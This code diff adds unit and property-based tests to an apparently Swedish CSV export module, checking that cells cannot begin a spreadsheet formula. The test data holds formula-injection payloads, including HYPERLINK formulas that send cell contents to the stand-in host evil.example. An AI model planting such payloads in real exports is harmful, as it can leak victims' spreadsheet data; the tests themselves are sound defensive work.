@@ -1,3 +1,4 @@
+import fc from 'fast-check';
 import type { Score } from './aggregation';
 import {
   exportRows,
@@ -70,5 +71,53 @@ describe('organisationSummary', () => {
     expect(safeCell('-1')).toBe("'-1");
     expect(safeCell('@x')).toBe("'@x");
     expect(safeCell('Åsa')).toBe('Åsa');
+  });
+
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['Berg;=HYPERLINK("http://evil.example","x")', 'Berg;\'=HYPERLINK("http://evil.example","x")'],
+    ['Berg,+1', "Berg,'+1"],
+    ['a;-1;@SUM(A1)', "a;'-1;'@SUM(A1)"],
+    ['a; =1', "a;' =1"],
+    ['a;"=1', 'a;\'"=1'],
+    ['a\n=1', "a\n'=1"],
+    ['a\r\n=1', "a\r\n'=1"],
+    ['\t=1', "'\t=1"],
+    ['\r=1', "'\r'=1"],
+    [';;=1', ";;'=1"],
+    ['Vård- och omsorg; Skola', 'Vård- och omsorg; Skola'],
+    ['Berg, Åsa', 'Berg, Åsa'],
+  ])('%j is never a formula, split on comma or semicolon: %j', (value, safe) => {
+    expect(safeCell(value)).toBe(safe);
+  });
+
+  it('no cell of the export, split on comma or semicolon, starts a formula', () => {
+    const text = fc
+      .array(fc.constantFrom(...',;"=+-@ \t\r\nAå1('), { maxLength: 24 })
+      .map((characters) => characters.join(''));
+    fc.assert(
+      fc.property(text, text, (name, unit) => {
+        const csv = toCsv(
+          exportRows(
+            managers.map((m) => ({ ...m, name, unit })),
+            reports,
+          ),
+        );
+        for (const line of csv.split(/\r\n|\n|\r/)) {
+          for (const cell of line.split(/[,;]/)) {
+            expect(cell).not.toMatch(/^[ "]*[=+\-@\t]/);
+          }
+        }
+      }),
+      { numRuns: 500 },
+    );
+    const hostile = '1;=HYPERLINK("http://evil.example/?"&A1,"Klicka")';
+    const csv = toCsv(
+      exportRows(
+        managers.map((m) => ({ ...m, name: hostile })),
+        reports,
+      ),
+    );
+    expect(csv).toContain(`"1;'=HYPERLINK(""http://evil.example/?""&A1,""Klicka"")"`);
   });
 });
